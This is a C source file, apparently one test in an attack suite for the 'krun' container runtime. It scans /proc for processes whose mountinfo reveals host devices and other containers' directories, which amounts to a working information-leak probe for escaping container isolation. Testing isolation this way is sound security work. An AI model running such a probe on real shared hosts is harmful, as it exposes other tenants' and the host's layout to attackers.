// The host's mounts, in /proc/PID/mountinfo of krun's own process on its way into the container: everybody in the container's pid
// namespace may read it, and it names devices of the host and directories of other containers and of their images.
#include "attack.h"
#include <dirent.h>

static unsigned char own[1 << 20];

// Marks the numbers of the mounts that process WHO sees, or returns the first that the container does not have.
static int look(const char *who, int mark) {
    char path[300], line[8192];
    int found = 0;
    snprintf(path, sizeof path, "/proc/%s/mountinfo", who);
    FILE *f = fopen(path, "re");
    while (f && !found && fgets(line, sizeof line, f)) {
        int number = atoi(line);
        if (number <= 0 || number >= (int)sizeof own)
            continue;
        if (mark)
            own[number] = 1;
        else if (!own[number])
            found = number;
    }
    if (f)
        fclose(f);
    return found;
}

int main(void) {
    look("self", 1);
    while (!attack_over()) {
        DIR *proc = opendir("/proc");
        if (!proc)
            attack_broken("/proc");
        for (struct dirent *e; (e = readdir(proc));) {
            int number = atoi(e->d_name) > 0 ? look(e->d_name, 0) : 0;
            if (number)
                attack_won("mount %d of the host, by process %s", number, e->d_name);
        }
        closedir(proc);
    }
    attack_lost();
}
